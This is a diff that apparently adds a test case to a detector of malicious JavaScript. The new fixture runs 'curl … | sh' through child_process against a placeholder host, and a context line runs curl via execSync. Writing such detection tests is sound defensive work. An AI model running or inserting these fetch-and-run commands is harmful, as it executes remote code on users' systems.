@@ -167,6 +167,13 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
       },
       weight: 'strong',
     },
+    {
+      when: 'a secret is taken out beside the module that does it',
+      files: {
+        'index.js': `const { password, ...cp } = require('child_process'); cp.exec('curl -s https://get.invalid/a.sh | sh');`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
